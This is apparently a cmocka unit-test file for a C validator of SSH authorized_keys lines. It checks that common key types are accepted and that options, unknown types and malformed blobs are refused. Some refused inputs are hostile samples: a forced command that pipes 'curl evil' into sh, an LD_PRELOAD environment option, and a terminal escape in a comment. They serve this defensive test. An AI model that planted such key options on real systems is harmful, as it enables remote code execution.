/* Unit tests for common/ssh_key.c: every supported key type (real keys from ssh-keygen; the
 * FIDO types built by hand), canonical output, and the refusals: options (command=, from=,
 * restrict), unknown types, base64 that is not canonical, an embedded type that differs, blobs
 * with missing or extra bytes, over-long lines. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/ssh_key.h"

#define ED25519 "AAAAC3NzaC1lZDI1NTE5AAAAIE4cghccFrWp2YaqANY+RuEvCb7/jm7a8Wmvm13rjayN"
#define ECDSA256                                                                                                       \
	"AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBIufCF69NEg9LHM8QP3tCmOrmGmeCdRRi7/"                      \
	"c54z7ZnGidQlw3AdQ1Y8KzFUbLefyeYIs/7L6C/GvJkYwI5mkAtc="
#define ECDSA384                                                                                                       \
	"AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAzODQAAABhBGnHTnV/LQ9MsEuBLjET423MYPd65AtOjGzx1/8+++"               \
	"y5QciWc7xTPpaETy7Hlza8HYBjmRY5y3vJ/RPYyZwcsYrAl6sSGLA8ypGG1NVhSrlsnFWGOtaRccoi7303isEnNQ=="
#define ECDSA521                                                                                                       \
	"AAAAE2VjZHNhLXNoYTItbmlzdHA1MjEAAAAIbmlzdHA1MjEAAACFBABpXq7RqXcoIeEDYCl3iVqnO8EI8Usb99bKkgRoVukGMu4rDDRTpc"   \
	"A/CBtRpISq7+M3S9FVG1JsIItDRWOw/cCwtAHSVgN1xD+zDTcMuB66qij8We0htEfmyR8m7GFTptc1nHwH9Dx6fI8/yj/"                \
	"SvqcrPMZ48gSzmtdwblSTGKtqkPca0w=="
#define RSA1024                                                                                                        \
	"AAAAB3NzaC1yc2EAAAADAQABAAAAgQDKjTrFXJSwPKjA945z7p5hj/VzlPocq8+lHGrVU2h6EF8QZabWfc/"                          \
	"YGXwJJjjXbIaDnSIPtcEaj44dvAkKHttRjxntO4UDIDWg6sQoyYJieQs5xJGvSCX382AFIkXS9pdN3jogPohqZJ1usHEnrHYsXQsB3F5so1t" \
	"X6"                                                                                                           \
	"eZLvfcf5w=="
#define SK_ED25519                                                                                                     \
	"AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29tAAAAIE4cghccFrWp2YaqANY+RuEvCb7/jm7a8Wmvm13rjayNAAAABHNzaDo="
#define SK_ECDSA                                                                                                       \
	"AAAAInNrLWVjZHNhLXNoYTItbmlzdHAyNTZAb3BlbnNzaC5jb20AAAAIbmlzdHAyNTYAAABBBIufCF69NEg9LHM8QP3tCmOrmGmeCdRRi7/"  \
	"c54z7ZnGidQlw3AdQ1Y8KzFUbLefyeYIs/7L6C/GvJkYwI5mkAtcAAAAEc3NoOg=="
/* An ed25519 blob with one byte too many, one too few, and a P-256 key labelled P-384. */
#define ED25519_TRAILING "AAAAC3NzaC1lZDI1NTE5AAAAIE4cghccFrWp2YaqANY+RuEvCb7/jm7a8Wmvm13rjayNAA=="
#define ED25519_SHORT    "AAAAC3NzaC1lZDI1NTE5AAAAH04cghccFrWp2YaqANY+RuEvCb7/jm7a8Wmvm13rjaw="
#define ECDSA256_AS_384                                                                                                \
	"AAAAE2VjZHNhLXNoYTItbmlzdHAzODQAAAAIbmlzdHAyNTYAAABBBIufCF69NEg9LHM8QP3tCmOrmGmeCdRRi7/"                      \
	"c54z7ZnGidQlw3AdQ1Y8KzFUbLefyeYIs/7L6C/GvJkYwI5mkAtc="

static char out[16384];

static enum entra_ssh_key_verdict check(const char *line, const char **why)
{
	memset(out, 0, sizeof(out));
	return entra_ssh_key_check(line, strlen(line), out, sizeof(out), why);
}

static void accepts(const char *line, const char *canonical)
{
	const char *why = "unset";
	assert_int_equal(check(line, &why), ENTRA_SSH_KEY_OK);
	assert_null(why);
	assert_string_equal(out, canonical);
}

static void refuses(const char *line, const char *reason_part)
{
	const char *why = NULL;
	assert_int_equal(check(line, &why), ENTRA_SSH_KEY_REFUSED);
	assert_non_null(why);
	if (!strstr(why, reason_part))
		fail_msg("'%s': '%s' does not say '%s'", line, why, reason_part);
}

static void every_usual_key_type_is_accepted(void **state)
{
	(void)state;
	accepts("ssh-ed25519 " ED25519 " alice@laptop", "ssh-ed25519 " ED25519 " alice@laptop");
	accepts("ecdsa-sha2-nistp256 " ECDSA256, "ecdsa-sha2-nistp256 " ECDSA256);
	accepts("ecdsa-sha2-nistp384 " ECDSA384 " k", "ecdsa-sha2-nistp384 " ECDSA384 " k");
	accepts("ecdsa-sha2-nistp521 " ECDSA521 " k", "ecdsa-sha2-nistp521 " ECDSA521 " k");
	accepts("ssh-rsa " RSA1024 " old", "ssh-rsa " RSA1024 " old");
	accepts("sk-ssh-ed25519@openssh.com " SK_ED25519 " yubikey",
	        "sk-ssh-ed25519@openssh.com " SK_ED25519 " yubikey");
	accepts("sk-ecdsa-sha2-nistp256@openssh.com " SK_ECDSA, "sk-ecdsa-sha2-nistp256@openssh.com " SK_ECDSA);
}

static void blanks_cr_and_unsafe_comments_are_normalised(void **state)
{
	(void)state;
	accepts("  ssh-ed25519\t\t" ED25519 "   a comment with spaces \r",
	        "ssh-ed25519 " ED25519 " a comment with spaces");
	accepts("ssh-ed25519 " ED25519 " \x1b[2Jevil", "ssh-ed25519 " ED25519);
	accepts("ssh-ed25519 " ED25519 " caf\xc3\xa9", "ssh-ed25519 " ED25519);
}

static void empty_and_comment_lines_are_blank(void **state)
{
	(void)state;
	const char *why = "unset";
	assert_int_equal(check("", &why), ENTRA_SSH_KEY_BLANK);
	assert_int_equal(check(" \t\r", &why), ENTRA_SSH_KEY_BLANK);
	assert_int_equal(check("# laptop key, retired", &why), ENTRA_SSH_KEY_BLANK);
	assert_null(why);
}

static void options_are_refused_never_trimmed(void **state)
{
	(void)state;
	const char *options = "options (command=";
	refuses("command=\"/bin/sh -c 'curl evil|sh'\" ssh-ed25519 " ED25519, options);
	refuses("from=\"10.0.0.0/8\" ssh-ed25519 " ED25519, options);
	refuses("restrict ssh-ed25519 " ED25519, options);
	refuses("no-pty,no-agent-forwarding ssh-ed25519 " ED25519, options);
	refuses("cert-authority ssh-ed25519 " ED25519, options);
	refuses("environment=\"LD_PRELOAD=/tmp/x\" ssh-rsa " RSA1024, options);
}

static void other_types_and_signature_names_are_refused(void **state)
{
	(void)state;
	refuses("rsa-sha2-256 " RSA1024, "not a supported key type");
	refuses("rsa-sha2-512 " RSA1024, "not a supported key type");
	refuses("ssh-dss AAAAB3NzaC1kc3M=", "not a supported key type");
	refuses("ssh-ed25519-cert-v01@openssh.com " ED25519, "not a supported key type");
	refuses("SSH-ED25519 " ED25519, "not a supported key type");
	refuses("hello world", "not a supported key type");
}

static void blobs_must_match_their_type_exactly(void **state)
{
	(void)state;
	refuses("ssh-rsa " ED25519, "embedded type");
	refuses("ecdsa-sha2-nistp384 " ECDSA256, "embedded type");
	refuses("ecdsa-sha2-nistp384 " ECDSA256_AS_384, "not a well-formed key");
	refuses("ssh-ed25519 " ED25519_TRAILING, "not a well-formed key");
	refuses("ssh-ed25519 " ED25519_SHORT, "not a well-formed key");
	refuses("ssh-ed25519", "base64");
	refuses("ssh-ed25519 " ED25519 "A", "base64");
	refuses("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE4cghccFrWp2YaqANY+RuEvCb7/jm7a8Wmvm13rjay*", "base64");
	/* The same key with non-zero unused bits in its last quantum: not canonical base64. */
	refuses("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE4cghccFrWp2YaqANY+RuEvCb7/jm7a8Wmvm13rjayNAB==", "base64");
}

static void long_lines_are_refused(void **state)
{
	(void)state;
	size_t n = ENTRA_SSH_KEY_LINE_MAX + 16;
	char *line = malloc(n + 1);
	assert_non_null(line);
	snprintf(line, n + 1, "ssh-ed25519 %s ", ED25519);
	size_t used = strlen(line);
	memset(line + used, 'c', n - used);
	line[n] = '\0';
	refuses(line, "longer than 8 KiB");
	free(line);
}

static void lines_are_split_on_newlines(void **state)
{
	(void)state;
	const char text[] = "a\r\n\nbc", *p = text, *end = text + strlen(text), *l;
	size_t len = 0;
	l = entra_ssh_key_next_line(&p, end, &len);
	assert_true(l == text && len == 2);
	l = entra_ssh_key_next_line(&p, end, &len);
	assert_true(l == text + 3 && len == 0);
	l = entra_ssh_key_next_line(&p, end, &len);
	assert_true(l == text + 4 && len == 2);
	assert_null(entra_ssh_key_next_line(&p, end, &len));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(every_usual_key_type_is_accepted),
	    cmocka_unit_test(blanks_cr_and_unsafe_comments_are_normalised),
	    cmocka_unit_test(empty_and_comment_lines_are_blank),
	    cmocka_unit_test(options_are_refused_never_trimmed),
	    cmocka_unit_test(other_types_and_signature_names_are_refused),
	    cmocka_unit_test(blobs_must_match_their_type_exactly),
	    cmocka_unit_test(long_lines_are_refused),
	    cmocka_unit_test(lines_are_split_on_newlines),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
